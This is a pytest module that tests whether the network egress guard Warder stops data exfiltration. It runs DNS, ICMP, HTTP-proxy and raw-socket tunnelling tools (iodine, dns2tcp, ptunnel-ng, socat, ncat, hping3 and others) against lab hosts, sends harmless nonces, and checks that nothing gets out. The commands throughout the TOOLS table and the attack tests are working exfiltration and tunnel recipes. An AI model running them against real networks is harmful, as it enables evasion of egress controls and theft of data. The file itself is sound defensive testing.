"""Promise 1, attacked with the field's own tools: tunnels whose servers stand in a neighbour network, one hop
away from warder, get nothing out; from the same network without Warder each of them does."""

import json
import os
import re
import secrets
import shutil
import socket
import subprocess
import time
from dataclasses import dataclass
from pathlib import Path

import pytest

from support.bench import INSIDE, PYTHON
from support.daemon import TOKEN, Daemon
from support.echo import echo_origin
from support.marks import both_users
from support.neighbour import HERE, THERE, THERE6, Neighbourhood, end

SERVERS = [f"10.99.0.{n}" for n in range(3, 8)]
IODINE, DNS2TCP, PTUNNEL, HTTPTUNNEL, PROXY = SERVERS
ALLOWED = (THERE, 6, 8443)          # where api.test is: the one thing that two of the policies allow

ONE = [{"name": "one", "hosts": ["api.test"], "paths": ["/ok"], "action": "allow"}]
PATH = [*ONE, {"name": "path", "hosts": ["htunnel.test", "hproxy.test"], "paths": ["/health"], "action": "allow"}]
POLICIES = {"nothing": [], "one": ONE, "path": PATH}


# -- the tools -------------------------------------------------------------------------------------
def tunnelled(start, send):
    """A tool that stays, and what is sent through its end; over when the tool is."""
    return (f"{start} </dev/null & tool=$!; for i in $(seq TRIES); do sleep 0.4; {send}; "
            "kill -0 $tool || break; done; kill -9 $tool; true")


def to_port(port, host="127.0.0.1"):
    return f"echo NONCE | timeout 2 socat -t0.3 - TCP:{host}:{port},connect-timeout=1"


@dataclass(frozen=True)
class Tool:
    """`client`: a shell's line that carries NONCE out. `says`: what stands in the records of its attempt, if
    that is an exchange. `named`: the same with the server's host name, and what is then said."""
    client: str
    server: tuple = ()
    says: str = ""
    named: tuple = ()


NCAT_PROXY = ("ncat", "-lk", PROXY, "3128", "--proxy-type", "http")
PLACE = f"{PROXY}:3128"
CONNECTED = rf'"CONNECT", "authority": "http://{PLACE}".*"deny"'
BY_NAME = '"CONNECT", "authority": "http://hproxy.test".*"deny"'
HPING = "printf NONCE >/tmp/NONCE; timeout 3 hping3 {} -c 1 -d 64 -E /tmp/NONCE -q " + THERE
TOOLS = {
    "iodine": Tool(
        tunnelled(f"iodine -f -r -T NULL -m 500 -L0 -P pw {IODINE} t.tunnel.test", to_port(7777, "10.53.0.1")),
        ("iodined", "-f", "-c", "-P", "pw", "-l", IODINE, "10.53.0.1/27", "t.tunnel.test")),
    "dns2tcp": Tool(
        tunnelled(f"dns2tcpc -z d.tunnel.test -k pw -r nonce -l 2222 {DNS2TCP}", to_port(2222)),
        ("dns2tcpd", "-F", "-d", "1", "-f", "DIRECTORY/dns2tcpd.conf"), r"d\.tunnel\.test.*name_not_allowed"),
    "ptunnel-ng": Tool(
        tunnelled(f"ptunnel-ng -p{PTUNNEL} -l8001 -r127.0.0.1 -R7777", to_port(8001)),
        ("ptunnel-ng", "-r127.0.0.1", "-R7777")),
    "httptunnel": Tool(
        tunnelled(f"htc -w -F 8002 {HTTPTUNNEL}:8888", to_port(8002)),
        ("hts", "-w", "-F", "127.0.0.1:7777", "8888"), rf"{HTTPTUNNEL}:8888.*host_not_allowed",
        (tunnelled("htc -w -F 8002 htunnel.test:80", to_port(8002)), r"htunnel\.test.*path_not_allowed")),
    "proxytunnel": Tool(
        f"echo NONCE | timeout 3 proxytunnel -q -p {PLACE} -d 127.0.0.1:7777",
        NCAT_PROXY, CONNECTED,
        ("echo NONCE | timeout 3 proxytunnel -q -p hproxy.test:80 -d 127.0.0.1:7777", BY_NAME)),
    "corkscrew": Tool(
        f"(echo NONCE; sleep 1) | timeout 3 corkscrew {PROXY} 3128 {THERE} 7777",
        NCAT_PROXY, CONNECTED,
        (f"(echo NONCE; sleep 1) | timeout 3 corkscrew hproxy.test 80 {THERE} 7777", BY_NAME)),
    "socat TCP": Tool(f"echo NONCE | timeout 3 socat -u - TCP4:{THERE}:7777",
                      says=rf"{THERE}:7777.*deny"),
    "socat TCP6": Tool(f"echo NONCE | timeout 3 socat -u - TCP6:[{THERE6}]:7777",
                       says=r"fd99::2\]:7777.*deny"),
    "socat UDP": Tool(f"echo NONCE | timeout 3 socat -t0.1 -u - UDP4:{THERE}:123"),
    "socat UDP6": Tool(f"echo NONCE | timeout 3 socat -t0.1 -u - UDP6:[{THERE6}]:443"),
    "socat GRE": Tool(f"echo NONCE | timeout 3 socat -t0.1 -u - IP4-SENDTO:{THERE}:47"),
    "socat IPIP in IPv6": Tool(f"echo NONCE | timeout 3 socat -t0.1 -u - IP6-SENDTO:[{THERE6}]:4"),
    "ncat": Tool(f"echo NONCE | timeout 3 ncat -4 --send-only {THERE} 7777",
                 says=rf"{THERE}:7777.*deny"),
    "ncat UDP": Tool(f"echo NONCE | timeout 3 ncat -4 -u --send-only {THERE} 443"),
    "ncat by a proxy": Tool(
        f"(echo NONCE; sleep 0.5) | timeout 3 ncat --proxy {PLACE} --proxy-type http {THERE} 7777", NCAT_PROXY,
        CONNECTED,
        (f"(echo NONCE; sleep 0.5) | timeout 3 ncat --proxy hproxy.test:80 --proxy-type http {THERE} 7777", BY_NAME)),
    "hping3 ICMP": Tool(HPING.format("--icmp")),
    "hping3 UDP": Tool(HPING.format("--udp -p 53")),
    "hping3 SYN": Tool(HPING.format("--syn -p 443")),
    "hping3 GRE": Tool(HPING.format("--rawip --ipproto 47")),
    "ping": Tool(f"ping -c 1 -W 1 -p NONCE {THERE}"),
    "ping6": Tool(f"ping -6 -c 1 -W 1 -p NONCE {THERE6}"),
}
PROGRAMS = ("iodine", "dns2tcpc", "ptunnel-ng", "htc", "proxytunnel", "corkscrew", "socat", "ncat", "hping3", "ping")


def forms(nonce):
    """As text, and (ping's pattern) as the bytes that it spells."""
    return nonce.encode(), bytes.fromhex(nonce)


# -- the places ------------------------------------------------------------------------------------
class Servers:
    """The tools' servers at the neighbour's."""

    def __init__(self, place, directory):
        self.place, self.running = place, []
        (directory / "dns2tcpd.conf").write_text(
            f"listen = {DNS2TCP}\nport = 53\nuser = nobody\nchroot = /tmp\ndomain = d.tunnel.test\nkey = pw\n"
            "resources = nonce:127.0.0.1:7777\n")
        self.commands = {tuple(w.replace("DIRECTORY", str(directory)) for w in tool.server)
                         for tool in TOOLS.values() if tool.server}

    def start(self):
        self.running = [self.place.start(words) for words in self.commands]
        for process in self.running:
            self.place.wait_for_socket_of(process)

    def stop(self):
        while self.running:
            end(self.running.pop())


@pytest.fixture(scope="module")
def hood(base):
    """With the names of the tools that get a nonce out where nothing hinders them, by this very road."""
    missing = [p for p in PROGRAMS if not shutil.which(p, path="/usr/sbin:/usr/bin:/sbin:/bin")]
    assert not missing, f"not installed: {missing}: tools/install-deps tests"
    place = Neighbourhood(SERVERS)
    directory = base / "tunnels"
    directory.mkdir()
    servers = Servers(place.server, directory)
    try:
        servers.start()
        place.proven = proven(place)
        servers.stop()              # they would go on answering the clients that were ended
        servers.start()
        yield place
    finally:
        servers.stop()
        place.close()


def proven(hood, seconds=25.0):
    first = len(hood.capture.packets)
    nonces = {name: secrets.token_hex(16) for name in TOOLS}
    running = [hood.client.start(["sh", "-c", fill(tool.client, nonces[name], 40)]) for name, tool in TOOLS.items()]
    deadline, found = time.monotonic() + seconds, set()
    while len(found) < len(TOOLS) and time.monotonic() < deadline:
        packets = hood.capture.packets[first:]
        found |= {n for n, nonce in nonces.items() if n not in found and came(hood, nonce, packets)}
        time.sleep(0.1)
    for process in running:
        end(process)
    for nonce in nonces.values():
        Path(f"/tmp/{nonce}").unlink(missing_ok=True)       # hping3's
    return found


def fill(client, nonce, tries):
    return client.replace("NONCE", nonce).replace("TRIES", str(tries))


def came(hood, nonce, packets):
    """As text, or (ping's pattern) as the bytes that it spells."""
    return hood.arrived(nonce.encode(), packets) or hood.arrived(bytes.fromhex(nonce), packets)


@pytest.fixture
def near(bench, hood, pki):
    """A bench whose warder runs in the client's network, with api.test at the neighbour's."""
    origin = hood.server.run(lambda: echo_origin(pki.good))
    relay = hood.server.start(["socat", f"TCP-LISTEN:8443,bind={THERE},reuseaddr,fork", f"TCP:{origin.address}"])
    bench.origins.append(origin)
    bench.connect.update({"api.test:443": f"{THERE}:8443", "htunnel.test:80": f"{HTTPTUNNEL}:8888",
                          "hproxy.test:80": PLACE, "hproxy.test:443": PLACE})
    hood.client.host(bench)
    hood.wait_for(THERE, 8443)
    bench.origin, bench.hood, bench.real = origin, hood, ""
    yield bench
    end(relay)


def only_allowed(packets, policy, done=""):
    strange = [p for p in packets if policy == "nothing" or (p.to, p.protocol, p.port) != ALLOWED or p.source != HERE]
    assert not strange, "\n".join(map(str, [*strange[:10], done]))
    assert policy == "nothing" or packets, "what the policy allows must arrive, else the capture proves nothing"


def recorded(records, pattern):
    return any(re.search(pattern, json.dumps(r)) for r in records)


# -- what the tools do -------------------------------------------------------------------------------
@pytest.mark.parametrize("name", TOOLS)
def test_control_the_tool_gets_through_without_warder(hood, name):
    """From the very network in which warder runs below; else that proves nothing."""
    if name == "iodine" and not os.path.exists("/dev/net/tun"):
        pytest.skip("iodine cannot work here: no /dev/net/tun")
    assert name in hood.proven, f"{name} does not work in the open network"


@pytest.mark.parametrize("bench,policy", [("self", "nothing"), ("self", "one"), ("self", "path"), ("user", "nothing"),
                                          ("user", "path")], indirect=["bench"])
def test_attack_by_tunnels_of_every_kind_gets_nothing_out(near, policy):
    """With no rule, with a rule for another host, and with rules for another path of the tunnels' own hosts."""
    near.config(rules=POLICIES[policy], grants=[], secrets={})
    nonces = {name: secrets.token_hex(16) for name in TOOLS}
    lines, says = [], {}
    for number, (name, tool) in enumerate(TOOLS.items()):
        client, says[name] = tool.named if policy == "path" and tool.named else (tool.client, tool.says)
        lines.append(f"({fill(client, nonces[name], 4)}) >/tmp/said.{number} 2>&1 &")
    greeting = "" if policy == "nothing" else "curl -sS https://api.test/ok\n"
    done, packets = near.hood.packets_of(lambda: near.run(
        greeting + "\n".join(lines) + "\nwait\ntail -n 5 /tmp/said.* >&2; echo over", timeout=60))
    assert done.text == ("over\n" if policy == "nothing" else "okover\n"), done
    assert [name for name, nonce in nonces.items() if came(near.hood, nonce, packets)] == [], done
    only_allowed(packets, policy, done)
    unrecorded = {name: said for name, said in says.items() if said and not recorded(done.records, said)}
    assert not unrecorded, f"{unrecorded}\n{done}\n" + "\n".join(map(json.dumps, done.records))


# -- what needs no tool ------------------------------------------------------------------------------
RAW = (INSIDE / "packets.py").read_text()
# In the open network these bring nothing to the neighbour either: the kernel lacks them, or it is a matter of this machine alone.
NOT_SEEN = {"sctp", "sctp6", "dccp", "dccp6", "vsock", "tun", "another_interface", "ping-socket", "ping-socket6"}


def tags(nonce, packets, hood):
    seen = hood.collector.got + b"\0".join(p.data for p in packets)
    return {name.decode() for name in re.findall(nonce.encode() + rb"-([\w-]+)", seen)}


def open_raw(hood, directory):
    """The names of the attempts that arrive from the open network, as root."""
    nonce = secrets.token_hex(12)
    (directory / "client.py").write_text(RAW)
    shutil.copy(INSIDE / "wire.py", directory / "wire.py")
    first = len(hood.capture.packets)
    done = subprocess.run([*hood.client.prefix, PYTHON, "-B", directory / "client.py", nonce, THERE, THERE6],
                          capture_output=True, text=True, timeout=40)
    said = json.loads(done.stdout)["said"]
    deadline = time.monotonic() + 5
    while (missing := set(said) - tags(nonce, hood.capture.packets[first:], hood) - NOT_SEEN) \
            and time.monotonic() < deadline:
        time.sleep(0.1)
    return missing, said


def test_control_packets_of_every_kind_arrive_without_warder(hood, tmp_path):
    missing, said = open_raw(hood, tmp_path)
    assert not missing, (missing, said)


@pytest.mark.parametrize("bench,policy", [("self", "one"), ("user", "nothing")], indirect=["bench"])
def test_attack_by_packets_of_every_kind_gets_nothing_out(near, policy):
    near.config(rules=POLICIES[policy], grants=[], secrets={})
    nonce = secrets.token_hex(12)
    greeting = "" if policy == "nothing" else "show(ok=fetch('/ok').body.decode())\n"
    done, packets = near.hood.packets_of(lambda: near.python(greeting + RAW, nonce, THERE, THERE6, timeout=60))
    said = done.lines[-1]["said"]
    assert tags(nonce, packets, near.hood) == set(), done
    only_allowed(packets, policy, done)
    opened = {name: how for name, how in said.items() if how in ("opened", "made")
              or (how is None and name.partition("-")[0] in ("raw", "raw6", "packet", "vsock", "sctp", "dccp"))}
    assert not opened, done
    for name in ("dns-udp-A", "dns-tcp-TXT", "dns-udp-NULL", "dns-tcp-CNAME"):
        assert recorded(done.records, f"{nonce}-{name}.*name_not_allowed"), (name, done)
    for place in (rf"{THERE}:7777", r"fd99::2\]:7777", rf"{THERE}:443"):
        assert recorded(done.records, f"{place}.*deny"), (place, done.records)


# -- by what is allowed ------------------------------------------------------------------------------
@both_users
def test_attack_by_dns_over_https_at_an_allowed_host(near):
    """Its other path is as closed as another host: RFC 8484 by GET and by POST, and a resolver's own address."""
    near.config(rules=ONE, grants=[], secrets={})
    nonce = secrets.token_hex(16)
    done, packets = near.hood.packets_of(lambda: near.run(
        f"""curl -sS https://api.test/ok; cd /tmp; printf '\\0\\1{nonce}' >query
        post="curl -sS -m 5 -w %{{http_code}}\\n -o /dev/null --data-binary @query -H Content-Type:application/dns-message"
        curl -sS -w '%{{http_code}}\\n' -o /dev/null 'https://api.test/dns-query?dns={nonce}'
        $post https://api.test/dns-query; $post https://api.test/ok/../dns-query --path-as-is
        $post --resolve doh.test:443:{THERE} https://doh.test/dns-query
        $post --connect-to doh.test:443:api.test:443 https://doh.test/dns-query
        $post -k https://{THERE}/dns-query; true"""))
    assert done.text.split()[:3] == ["ok403", "403", "400"], done
    assert "200" not in done.text, done
    assert [r.target for r in near.origin.requests] == ["/ok"], near.origin.requests
    assert not came(near.hood, nonce, packets), done
    only_allowed(packets, "one", done)
    assert recorded(done.records, "https://api.test.*path_not_allowed"), done.records
    assert recorded(done.records, "doh.test.*(host_not_allowed|authority_mismatch)"), done.records


PROXY_CLIENTS = {
    "corkscrew": "(echo NONCE; sleep 1) | timeout 3 corkscrew 127.0.0.1 PORT HOST TO /tmp/NONCE.auth",
    "proxytunnel": f"echo NONCE | timeout 3 proxytunnel -q -p 127.0.0.1:PORT -P warder:{TOKEN} -d HOST:TO",
    "ncat": "(echo NONCE; sleep 1) | timeout 3 ncat --proxy 127.0.0.1:PORT --proxy-type http "
            f"--proxy-auth warder:{TOKEN} HOST TO",
}


def test_attack_through_warders_own_connect(near):
    """With the session's token: to the tunnel itself, by name and address; to a host of which another path is
    allowed; and with bytes that are no TLS to one that is allowed."""
    aims = [(THERE, 7777), ("tunnel.test", 7777), (f"{PROXY}", 3128), ("hproxy.test", 443), ("hproxy.test", 80),
            ("api.test", 443), ("api.test", 7777)]
    with Daemon(near, [{"type": "connect", "name": "in", "token": {"env": "PROXY_TOKEN"}}], rules=PATH, grants=[],
                secrets={}) as gateway:
        nonces, running = {}, []

        def attack():
            for name, client in PROXY_CLIENTS.items():
                for host, to in aims:
                    nonce = nonces[name, host, to] = secrets.token_hex(16)
                    Path(f"/tmp/{nonce}.auth").write_text(f"warder:{TOKEN}\n")
                    words = fill(client, nonce, 1).replace("PORT", str(gateway.ports["in"])).replace("HOST", host)
                    running.append(near.hood.client.start(["sh", "-c", words.replace("TO", str(to))]))
            for process in running:
                process.wait(30)
        _, packets = near.hood.packets_of(attack)
        for nonce in nonces.values():
            Path(f"/tmp/{nonce}.auth").unlink()
        assert [key for key, nonce in nonces.items() if came(near.hood, nonce, packets)] == []
        # A TLS connection to api.test may be made, to learn what it speaks; nothing else.
        strange = [p for p in packets if (p.to, p.protocol, p.port) != ALLOWED]
        assert not strange, "\n".join(map(str, strange[:10]))
        assert near.origin.requests == []
        refused = [(r["authority"], r["reason"]) for r in gateway.records("intent", len(nonces))
                   if r["decision"] == "deny" and r["reason"] != "not_authenticated"]
        # proxytunnel names the proxy itself as Host: that is no CONNECT to what it says.
        assert refused.count(("", "malformed_request")) == len(aims), refused
        for host, to in aims:       # the default port of a scheme is not written
            place = re.compile(rf"://{re.escape(host)}{'' if to in (80, 443) else f':{to}'}$")
            found = [one for one in refused if place.search(one[0])]
            assert len(found) >= len(PROXY_CLIENTS) - 1, (host, to, refused)


def test_with_a_rule_for_it_the_same_client_arrives(near):
    """That nothing came above is Warder's doing, and not that of a sandbox in which nothing works."""
    near.connect["raw.test:7777"] = f"{THERE}:7777"
    near.config(rules=[{"name": "raw", "hosts": ["raw.test"], "ports": [7777], "action": "tcp"}], grants=[], secrets={})
    nonce = secrets.token_hex(16)
    client = TOOLS["socat TCP"].client.replace(THERE, "raw.test")
    done, packets = near.hood.packets_of(lambda: near.run(fill(client, nonce, 1)))
    assert came(near.hood, nonce, packets), done
    assert {(p.to, p.protocol, p.port) for p in packets} == {(THERE, 6, 7777)}, done


@both_users
def test_attack_by_unix_sockets_of_the_host(near):
    """Abstract names belong to a network: here to the very one that warder runs in. Paths do not."""
    nonce, reached = secrets.token_hex(8), []
    paths = [f"/tmp/{nonce}.sock", f"/run/{nonce}.sock", f"/dev/shm/{nonce}.sock", f"/var/tmp/{nonce}.sock",
             str(near.home / "h.sock")]

    def listen(address):
        made = socket.socket(socket.AF_UNIX)
        made.bind(address)
        made.listen()
        made.setblocking(False)
        if not address.startswith("\0"):
            os.chmod(address, 0o777)
        return made
    listeners = {a: near.hood.client.run(lambda a=a: listen(a)) for a in (f"\0{nonce}", *paths)}
    reach = ["abstract-connect:" + nonce, *(f"unix-connect:{p}" for p in paths)]
    attack = "; ".join(f"echo {nonce} | timeout 3 socat -u - {where} && echo reached" for where in reach)
    try:
        control = subprocess.run([*near.hood.client.prefix, "sh", "-c", attack], capture_output=True, text=True)
        assert control.stdout.count("reached") == len(reach), control
        for one in listeners.values():
            one.accept()[0].close()
        near.config(rules=[], grants=[], secrets={})
        done = near.run(attack + "; echo over")
        for address, one in listeners.items():
            try:
                one.accept()[0].close()
                reached.append(address)
            except BlockingIOError:
                pass
        assert reached == [] and done.text == "over\n", done
    finally:
        for address, one in listeners.items():
            one.close()
            if not address.startswith("\0"):
                os.unlink(address)
